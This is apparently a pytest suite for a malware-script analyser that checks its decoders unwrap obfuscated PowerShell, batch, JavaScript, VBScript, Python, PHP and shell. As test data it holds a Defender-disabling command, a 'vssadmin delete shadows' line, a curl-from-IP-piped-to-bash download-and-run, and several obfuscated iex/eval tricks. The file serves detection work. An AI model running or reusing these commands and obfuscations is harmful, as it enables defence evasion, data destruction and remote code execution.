# ruff: noqa: E501 -- a line of a script is one line here, too
"""What the decoders make of the usual wrappers; nothing is run, so every expected text stands here."""

import base64
import gzip
import zlib

import pytest

from anshin.engine.budget import Budget
from anshin.engine.formats.script import Analysis, analyse
from anshin.engine.formats.script.decode.encoder import decode
from anshin.engine.limits import Limits
from tests.engine.script_texts import CUT, encoded, plain64

MARK = "Set-Mp¦Preference -DisableRealtime¦Monitoring $true".replace(CUT, "")
"""A line that is worth a layer in every language of Windows."""


def analysed(text: str, language: str) -> Analysis:
    return analyse(text.replace(CUT, ""), language, Budget(Limits()))


def layers(text: str, language: str) -> str:
    return "\n".join(layer.data.decode() for layer in analysed(text, language).layers)


def raw_deflate(data: bytes) -> str:
    stream = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(stream.compress(data) + stream.flush()).decode()


@pytest.mark.parametrize("option", ["-e", "-ec", "-en", "-enc", "-EncodedCommand", "/e", "-eNcOdEdC", "-^e^n^c"])
def test_encoded_command_in_every_abbreviation(option):
    assert "Get-Mark" in layers(f"powershell {option} {encoded('Get-Mark; ' * 5)}", "batch")


@pytest.mark.parametrize(
    "text",
    [
        "&('{1}{0}' -f 'ex','i') x",
        "&('i'+'e'+'x') x",
        "i`e`x x",
        "(('xyzei')[-1,-2] -join '') + 'x'; &(('i','ex') -join '') x",
        "&($env:ComSpec[4,24,25] -join '') x",
        "&([char]105+[char]101+[char]120) x",
        "&('xei'[-1..-3] -join '') x",
        "&('azx'.Replace('az','ie')) x",
        "&('i_x' -replace '_','e') x",
        "-join [char[]](105,101,120)",
    ],
)
def test_powershell_words_are_put_together(text):
    assert "iex" in layers(f"{text}\n$b = 'a'+'b'; {MARK}", "powershell").lower()


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("eval(String.fromCharCode({codes}))", "javascript"),
        ("eval(unescape('{percent}'))", "javascript"),
        ("eval(atob('{b64}'))", "javascript"),
        ("eval('{reverse}'.split('').reverse().join(''))", "javascript"),
        ("var a = '{first}'; a += '{second}'; eval(a)", "javascript"),
        ("eval(['{first}', '{second}'].join(''))", "javascript"),
        ('Execute(StrReverse("{reverse}"))', "vbscript"),
        ('Execute Replace("{holes}", "#", "")', "vbscript"),
        ("Execute {chrs}", "vbscript"),
        ("import base64\nexec(base64.b64decode('{b64}'))", "python"),
        ("exec(bytes.fromhex('{hex}'))", "python"),
        ("exec(zlib.decompress(base64.b64decode('{zlib}')))", "python"),
        ("exec(''.join([chr(c) for c in [{codes}]]))", "python"),
        ("exec((lambda _: z(b(_[::-1])))(b'{b64_reverse}'))", "python"),
        ("<?php eval(base64_decode('{b64}'));", "php"),
        ("<?php eval(gzinflate(base64_decode('{deflate}')));", "php"),
        ("<?php eval(gzuncompress(base64_decode('{zlib}')));", "php"),
        ("<?php eval(str_rot13(strrev('{rot13_reverse}')));", "php"),
        ("<?php $f = 'base'.'64_dec'.'ode'; eval($f('{b64}'));", "php"),
        (
            "$d = New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('{gzip}'))",
            "powershell",
        ),
        ("[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64}')) | iex", "powershell"),
        ("({xored}) -split ',' | % {{ [char]($_ -bxor 35) }}", "powershell"),
    ],
)
def test_wrapped_text_comes_out(text, language):
    import codecs

    plain = f"{MARK} ; document.x = new ActiveXObject(1) ; http"
    data = plain.encode()
    values = {
        "codes": ",".join(str(c) for c in data),
        "percent": "".join(f"%{c:02x}" for c in data),
        "b64": base64.b64encode(data).decode(),
        "b64_reverse": base64.b64encode(zlib.compress(data)).decode()[::-1],
        "reverse": plain[::-1],
        "first": plain[:20],
        "second": plain[20:],
        "holes": "#".join(plain),
        "chrs": " & ".join(f"Chr({c})" for c in data),
        "hex": data.hex(),
        "zlib": base64.b64encode(zlib.compress(data)).decode(),
        "deflate": raw_deflate(data),
        "rot13_reverse": codecs.encode(plain, "rot13")[::-1],
        "gzip": base64.b64encode(gzip.compress(data)).decode(),
        "xored": ",".join(str(c ^ 35) for c in data),
    }
    assert MARK in layers(text.format(**values), language)


def test_script_encoder_and_its_known_vector():
    assert decode("\\ko$K6,JC\x7fV^GJ") == 'MsgBox "Hello"'


def test_packed_javascript_is_unpacked():
    packed = "eval(function(p,a,c,k,e,d){return p}('0 1=2 3(\"4.5\")',6,6,'var|x|new|ActiveXObject|WScript|Sh¦ell'.split('|'),0,{}))"
    assert 'new ActiveXObject("WScript.Shell")' in layers(packed, "javascript")


def test_batch_variables_are_put_in_place():
    text = "set a=vss\r\nset b=admin\r\nset c=del\r\nset d=ete\r\n%a%%b% %c%%d% sha%a:~1,0%dows /all %d% %c%\r\n"
    assert "vssadmin delete shadows" in layers(text, "batch")


def test_shell_words_cut_into_variables():
    text = "a=cu; b=r; c=l; d=ba\n$a$b$c http://45.9.148.1/x | ${d}sh\n$a$b$c http://45.9.148.1/y | ba¦sh\n"
    assert "curl http://45.9.148.1" in layers(text, "shell")


def test_layers_in_layers_are_followed_to_the_end():
    text = MARK
    for _ in range(6):
        text = f"[Convert]::FromBase64String('{plain64(text)}') | iex"
    found = analysed(text, "powershell")
    assert any(s.code == "powershell.defender_off" and "layer" in s.place.detail for s in found.signs)
    assert not found.problems


def test_a_file_inside_is_a_member_and_judged_itself(judge):
    from tests.engine.samples import eicar, zipped

    body = base64.b64encode(zipped({"a.txt": eicar()})).decode()
    assert judge(f"var data = '{body}';".encode(), "a.js").status == "malicious"


def test_shellcode_in_base64_is_told():
    code = base64.b64encode(b"\xfc\x48\x83\xe4\xf0\xe8" + bytes(range(100))).decode()
    assert "script.shellcode" in {s.code for s in analysed(f"$b = '{code}'", "powershell").signs}
